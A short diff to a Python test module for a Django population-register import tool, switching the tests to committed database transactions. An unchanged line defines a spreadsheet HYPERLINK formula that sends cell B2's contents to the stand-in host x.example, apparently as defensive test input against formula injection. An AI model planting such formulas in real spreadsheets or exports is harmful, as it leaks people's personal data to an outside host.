@@ -12,6 +12,10 @@ from balai.penduduk.opensid import KOLOM
 
 from .factories import make_keluarga, make_penduduk
 
+# A writing import on PostgreSQL looks the register up on a second connection, which sees only
+# committed rows (impor.SambunganSamping): these tests commit instead of rolling back.
+pytestmark = pytest.mark.django_db(transaction=True)
+
 FORMULA = '=HYPERLINK("http://x.example/?"&B2,"klik")'
 
 
